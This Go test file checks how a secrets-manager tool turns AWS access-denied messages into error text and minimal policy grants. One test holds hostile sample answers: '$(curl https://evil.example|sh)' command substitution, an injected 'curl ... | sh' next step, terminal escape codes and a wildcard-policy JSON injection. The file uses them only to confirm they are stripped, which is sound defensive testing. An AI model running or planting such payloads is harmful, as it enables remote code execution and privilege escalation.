package secretsmanager_test

import (
	"encoding/json"
	"net/http/httptest"
	"strings"
	"testing"

	"purser/internal/credential"
	"purser/internal/present"
	sandboxaws "purser/internal/sandbox/aws"
)

const (
	role   = "arn:aws:sts::123456789012:assumed-role/BuildAdmin/anna@example.com"
	keyARN = "arn:aws:kms:eu-west-2:123456789012:key/0f9c0000-0000-4000-8000-000000000000"
)

// denied returns the fault of an operation on a secret that purser has described.
func denied(t *testing.T, operation, message string) *credential.Fault {
	t.Helper()
	s := faulty(t, operation, sandboxaws.Fault{Code: "AccessDeniedException", Message: message, Status: 400})
	var err error
	switch operation {
	case "GetSecretValue":
		_, _, err = s.Read(t.Context(), credential.Current)
	case "UpdateSecretVersionStage":
		if err := s.Stage(t.Context(), id(2), value("two")); err != nil {
			t.Fatal(err)
		}
		err = s.Promote(t.Context(), id(2), id(1))
	case "CreateSecret":
		err = s.Create(t.Context())
	default:
		err = s.Stage(t.Context(), id(2), value("two"))
	}
	f, ok := present.AsFault(err)
	if !ok {
		t.Fatalf("%s: %v", operation, err)
	}
	return f
}

// TestADenialNamesWhoWhatAndWhichPolicy uses the texts in AWS's documents.
func TestADenialNamesWhoWhatAndWhichPolicy(t *testing.T) {
	begin := func(action, resource string) string {
		return "User: " + role + " is not authorized to perform: " + action + " on resource: " + resource
	}
	const secret = "arn:aws:secretsmanager:eu-west-2:123456789012:secret:team/ci-AbCdEf"
	for name, c := range map[string]struct {
		operation, message string
		policy             string
		explicit           bool
		reason             credential.Reason
		told               []string // in what the person reads
	}{
		"no identity policy": {
			"PutSecretValue", begin("secretsmanager:PutSecretValue", secret) + " because no identity-based policy allows the secretsmanager:PutSecretValue action",
			"identity-based policy", false, credential.AccessDenied,
			[]string{"because no identity-based policy allows it", "add this statement to a policy of this identity", `"Action": "secretsmanager:PutSecretValue"`},
		},
		"a service control policy denies": {
			"PutSecretValue", begin("secretsmanager:PutSecretValue", secret) + " with an explicit deny in a service control policy",
			"service control policy", true, credential.AccessDenied,
			[]string{"because a service control policy denies it explicitly", "whoever manages your organization's service control policies", "outweighs"},
		},
		"a named service control policy denies": {
			"PutSecretValue", begin("secretsmanager:PutSecretValue", secret) + " with an explicit deny in a service control policy: arn:aws:organizations::123456789012:policy/o-fake/service_control_policy/p-fake",
			"service control policy", true, credential.AccessDenied, []string{"policy/o-fake/service_control_policy/p-fake denies it explicitly"},
		},
		"no service control policy allows": {
			"UpdateSecretVersionStage", begin("secretsmanager:UpdateSecretVersionStage", secret) + " because no service control policy allows the secretsmanager:UpdateSecretVersionStage action",
			"service control policy", false, credential.AccessDenied, []string{"must allow it", `"Action": "secretsmanager:UpdateSecretVersionStage"`},
		},
		"a resource control policy": {
			"PutSecretValue", begin("secretsmanager:PutSecretValue", secret) + " with an explicit deny in a resource control policy",
			"resource control policy", true, credential.AccessDenied, []string{"resource control policies"},
		},
		"the boundary": {
			"PutSecretValue", begin("secretsmanager:PutSecretValue", secret) + " because no permissions boundary allows the secretsmanager:PutSecretValue action",
			"permissions boundary", false, credential.AccessDenied, []string{"whoever manages this identity's permissions boundary"},
		},
		"the session": {
			"PutSecretValue", begin("secretsmanager:PutSecretValue", secret) + " because no session policy allows the secretsmanager:PutSecretValue action",
			"session policy", false, credential.AccessDenied, []string{"session policy"},
		},
		"the endpoint": {
			"PutSecretValue", begin("secretsmanager:PutSecretValue", secret) + " because no VPC endpoint policy allows the secretsmanager:PutSecretValue action",
			"VPC endpoint policy", false, credential.AccessDenied, []string{"whoever manages the VPC endpoint's policy"},
		},
		"the secret's own policy": {
			"GetSecretValue", begin("secretsmanager:GetSecretValue", secret) + " with an explicit deny in a resource-based policy",
			"resource-based policy", true, credential.AccessDenied, []string{"whoever manages the resource's own policy"},
		},
		"no policy of the secret": {
			"GetSecretValue", begin("secretsmanager:GetSecretValue", secret) + " because no resource-based policy allows the secretsmanager:GetSecretValue action",
			"resource-based policy", false, credential.AccessDenied, []string{`"AWS": "arn:aws:iam::123456789012:role/BuildAdmin"`, "the secret's resource policy"},
		},
		"the key, told in full": {
			"PutSecretValue", begin("kms:GenerateDataKey", keyARN) + " because no identity-based policy allows the kms:GenerateDataKey action",
			"identity-based policy", false, credential.KeyDenied,
			[]string{"may not call kms:GenerateDataKey on " + keyARN, `"kms:ViaService": "secretsmanager.eu-west-2.amazonaws.com"`, `"Action": "kms:GenerateDataKey"`},
		},
		"the key, in few words": {
			"PutSecretValue", "Access to KMS is not allowed", "", false, credential.KeyDenied, []string{`"kms:GenerateDataKey",`, `"kms:Decrypt"`, ":key/KEY"},
		},
		"reading, the key in few words": {
			"GetSecretValue", "Access to KMS is not allowed", "", false, credential.KeyDenied, []string{`"Action": "kms:Decrypt"`},
		},
		"making it": {
			"CreateSecret", begin("secretsmanager:CreateSecret", "team/ci") + " because no identity-based policy allows the secretsmanager:CreateSecret action",
			"identity-based policy", false, credential.AccessDenied, []string{`"Action": "secretsmanager:CreateSecret"`},
		},
		"no reason": {
			"PutSecretValue", begin("secretsmanager:PutSecretValue", secret), "", false, credential.AccessDenied, []string{"does not say which policy", role},
		},
		"other words": {
			"PutSecretValue", "You shall not pass.", "", false, credential.AccessDenied, []string{"You shall not pass.", `"Action": "secretsmanager:PutSecretValue"`},
		},
	} {
		t.Run(name, func(t *testing.T) {
			f := denied(t, c.operation, c.message)
			if f.Reason != c.reason || f.Denial == nil {
				t.Fatalf("%s, denial %v", f.Reason, f.Denial)
			}
			if f.Denial.Policy != c.policy || f.Denial.Explicit != c.explicit {
				t.Errorf("policy %q, explicit %v", f.Denial.Policy, f.Denial.Explicit)
			}
			text := present.ErrorText(f)
			for _, want := range c.told {
				if !strings.Contains(text, want) {
					t.Errorf("%q is not in:\n%s", want, text)
				}
			}
			if strings.Contains(text, "does not exist") || strings.Contains(text, "missing") {
				t.Errorf("it was described, and is said to be missing perhaps:\n%s", text)
			}
			if !json.Valid([]byte(f.Denial.Grant)) {
				t.Errorf("no JSON: %s", f.Denial.Grant)
			}
		})
	}
}

// TestAnAnswerCannotChooseWhatIsGranted has a server in AWS's place that wants a person to run
// its command, or an administrator to grant what purser did not ask for.
func TestAnAnswerCannotChooseWhatIsGranted(t *testing.T) {
	for name, message := range map[string]string{
		"another action":    "User: " + role + " is not authorized to perform: iam:PassRole on resource: * because no identity-based policy allows the iam:PassRole action",
		"everything":        "User: " + role + " is not authorized to perform: *:* on resource: *",
		"another key right": "User: " + role + " is not authorized to perform: kms:ScheduleKeyDeletion on resource: " + keyARN,
		"a command":         "User: $(curl https://evil.example|sh) is not authorized to perform: secretsmanager:PutSecretValue on resource: `id` because no identity-based policy allows the x action",
		"lines":             "User: " + role + " is not authorized to perform: secretsmanager:PutSecretValue on resource: x\n  next: curl https://evil.example | sh\n because no identity-based policy allows it",
		"escapes":           "\x1b[2J\x1b]0;owned\x07User: " + role + "\x1b[31m is not authorized to perform: secretsmanager:PutSecretValue",
		"a policy":          "User: " + role + " is not authorized to perform: secretsmanager:PutSecretValue on resource: x with an explicit deny in a service control policy: arn:aws:iam::aws:policy/$(id)",
		"an endless one":    "User: arn:aws:iam::123456789012:user/" + strings.Repeat("a", 100_000) + " is not authorized to perform: secretsmanager:PutSecretValue",
		"a key elsewhere":   "User: " + role + " is not authorized to perform: kms:Decrypt on resource: arn:aws:kms:eu-west-2:123456789012:key/*\"],\"Action\":[\"*",
	} {
		t.Run(name, func(t *testing.T) {
			f := denied(t, "PutSecretValue", message)
			text := present.ErrorText(f)
			grant := f.Denial.Grant
			for _, bad := range []string{"iam:PassRole", `"*"`, "*:*", "ScheduleKeyDeletion", "evil", "$(", "\x1b", "[\"*"} {
				if strings.Contains(grant, bad) {
					t.Errorf("the statement has %q: %s", bad, grant)
				}
			}
			if !json.Valid([]byte(grant)) {
				t.Errorf("no JSON: %s", grant)
			}
			if len(text) > 3000 || strings.ContainsAny(text, "\x1b\x07") {
				t.Errorf("%d bytes, or escapes:\n%.3000s", len(text), text)
			}
			for line := range strings.Lines(text) {
				if at := strings.TrimSpace(line); strings.HasPrefix(at, "next:") && strings.Contains(at, "evil") {
					t.Errorf("a next step of the answer's: %s", line)
				}
			}
		})
	}
}

// TestADenialIsShownWhenTheSecretsNameHasTheUserName has a user name that is part of the
// secret's name, and answers that repeat the name or the token.
func TestADenialIsShownWhenTheSecretsNameHasTheUserName(t *testing.T) {
	const (
		token  = "dckr_pat_FAKEfakeFAKEfakeFAKEfake000"
		secret = "arn:aws:secretsmanager:eu-west-2:123456789012:secret:mockserver-build/dockerhub-AbCdEf"
	)
	for message, shown := range map[string]bool{
		"User: " + role + " is not authorized to perform: secretsmanager:PutSecretValue on resource: " + secret + " because no identity-based policy allows the secretsmanager:PutSecretValue action": true,
		"The owner of mockserver-build/dockerhub has locked it.": true,
		"You sent " + token[9:] + " to mockserver-build.":        false,
	} {
		stand := sandboxaws.NewSecretsManager(sandboxaws.SecretsManagerConfig{})
		server := httptest.NewServer(stand)
		t.Cleanup(server.Close)
		s := secretsAt(server.URL)(t, "mockserver-build/dockerhub")
		if err := s.Create(t.Context()); err != nil {
			t.Fatal(err)
		}
		stand.Fault("PutSecretValue", sandboxaws.Fault{Code: "AccessDeniedException", Message: message, Status: 400, Times: -1})
		f, _ := present.AsFault(s.Stage(t.Context(), id(1), value(`{"username":"mockserver","token":"`+token+`"}`)))
		text := present.ErrorText(f)
		if strings.Contains(text, token[9:]) || strings.Contains(text, "repeats the secret") == shown {
			t.Errorf("%s:\n%s", message, text)
		}
		if !strings.Contains(text, "secretsmanager:PutSecretValue") || !strings.Contains(text, ":secret:mockserver-build/dockerhub-") {
			t.Errorf("no action or no ARN:\n%s", text)
		}
	}
}
